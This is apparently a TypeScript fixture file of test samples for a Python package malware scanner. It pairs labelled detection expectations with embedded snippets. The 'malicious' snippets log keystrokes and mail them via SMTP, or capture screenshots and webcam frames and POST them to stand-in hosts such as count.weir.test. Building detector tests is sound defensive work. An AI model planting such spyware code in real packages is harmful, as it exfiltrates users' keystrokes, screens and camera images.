import type { Sample, Samples } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

function at(rule: string, severity: 'medium' | 'high', line: number): Sample['expected'] {
  return [{ rule, file: 'own/__init__.py', line, severity }];
}

export const samples: Samples = {
  malicious: [
    {
      name: 'keys that are mailed once there are enough of them, in a function',
      files: wheel(
        "import smtplib\nfrom pynput.keyboard import Listener\nlog = []\ndef note(key):\n    log.append(str(key))\n    if len(log) > 100:\n        smtplib.SMTP('mail.weir.test').sendmail('a@weir.test', 'b@weir.test', ''.join(log))\ndef start():\n    Listener(on_press=note).start()\n",
      ),
      expected: at('keys', 'high', 9),
    },
    {
      name: 'keys that are mailed',
      files: wheel(
        "import smtplib\nfrom pynput import keyboard\nlog = []\ndef mail():\n    s = smtplib.SMTP('mail.weir.test')\n    s.sendmail('a@weir.test', 'b@weir.test', ''.join(log))\nmail()\nkeyboard.Listener(on_press=log.append).start()\n",
      ),
      expected: at('keys', 'high', 8),
    },
    {
      name: 'the screen, posted when the module is loaded',
      files: wheel(
        "import pyautogui, requests\npyautogui.screenshot().save('s.png')\nrequests.post('https://api.weir.test/s', files={'s': open('s.png', 'rb')})\n",
      ),
      expected: at('screen', 'high', 2),
    },
    {
      name: 'the camera, in a function that the module calls',
      files: wheel(
        "import cv2, requests\ndef look():\n    camera = cv2.VideoCapture(0)\n    requests.post('https://api.weir.test/c', data=camera.read()[1])\nlook()\n",
      ),
      expected: at('camera', 'high', 3),
    },
    {
      name: 'a picture of the screen that a function hands over',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import pyautogui, requests\ndef go():\n    pyautogui.screenshot('own.png')\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
      },
      expected: [{ rule: 'screen', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'a picture of the screen that one function takes and another hands over as text, for a third',
      files: wheel(
        "import base64, pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell(text):\n    requests.post('https://count.weir.test/up', json={'own': text})\ndef go():\n    look()\n    tell(base64.b64encode(open('own.png', 'rb').read()).decode())\n",
      ),
      expected: at('screen', 'high', 3),
    },
    {
      name: 'a picture that is handed over when the module is started as a program',
      files: wheel(
        "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\nif __name__ == '__main__':\n    look()\n    tell()\n",
      ),
      expected: at('screen', 'high', 3),
    },
    {
      name: 'a picture that methods of one class take and hand over',
      files: wheel(
        "import pyautogui, requests\nclass Watch:\n    def look(self):\n        pyautogui.screenshot('own.png')\n    def tell(self):\n        requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
      ),
      expected: at('screen', 'high', 4),
    },
    {
      name: 'a picture that another module has taken and handed over',
      files: {
        ...wheel(
          "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell(text):\n    requests.get('https://count.weir.test/up', params={'own': text})\n",
        ),
        'own/work.py':
          "import base64\nfrom . import look, tell\ndef go():\n    look()\n    tell(base64.b64encode(open('own.png', 'rb').read()))\n",
      },
      expected: [{ rule: 'screen', file: 'own/work.py', line: 4, severity: 'high' }],
    },
    {
      name: 'a picture that a program beside the module has taken and handed over',
      files: {
        ...wheel(
          "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
        ),
        'own/__main__.py': 'import own\nwhile True:\n    own.look()\n    own.tell()\n',
      },
      expected: at('screen', 'high', 3),
    },
    {
      name: 'a second picture behind a function that nobody calls',
      files: wheel(
        "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    pyautogui.screenshot('own.png')\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
      ),
      expected: at('screen', 'high', 3),
    },
  ],
  benign: [
    quiet(
      'a film that is read, and a folder that is handed over',
      wheel(
        "import cv2, requests\ndef frames(video_path):\n    film = cv2.VideoCapture(str(video_path))\n    return film.read()\ndef keep(file):\n    requests.post('https://own.example/up', data=open(file, 'rb'))\nfilms = frames('own.mp4')\n",
      ),
    ),
    quiet(
      'a camera, and a file of which only the caller knows where it is',
      wheel(
        'import cv2, requests\ndef frames():\n    return cv2.VideoCapture(0).read()\ndef sound(where):\n    return requests.get(where, stream=True)\nframes()\n',
      ),
    ),
    quiet('a picture for the caller, beside a function that hands over what it is given', {
      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
      'own/__init__.py':
        "import pyautogui, requests\ndef look(path):\n    pyautogui.screenshot(path)\n    return path\ndef create(name, links):\n    requests.post('https://maps.weir.test/new', json={'name': name, 'links': links})\n",
      'own/view.py':
        'from . import look, create\nclass View:\n    def picture(self, path):\n        return look(path)\n    def layer(self, name):\n        create(name, [])\n',
    }),
    quiet('a picture of the screen that a service is asked about', {
      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
      'own/__init__.py':
        "import pyautogui, requests\ndef read():\n    pyautogui.screenshot('own.png')\n    answer = requests.post('https://read.weir.test/text', files={'own': open('own.png', 'rb')})\n    return answer.json()\n",
    }),
    quiet(
      'keys of a game',
      wheel('from pynput import keyboard\ndef play(press):\n    keyboard.Listener(on_press=press).start()\n'),
    ),
    quiet(
      'pictures for a test',
      wheel('import pyautogui\ndef picture(path):\n    pyautogui.screenshot().save(path)\n'),
    ),
    quiet(
      'a client',
      wheel("import requests\ndef get():\n    return requests.get('https://api.weir.test/')\n"),
    ),
  ],
};
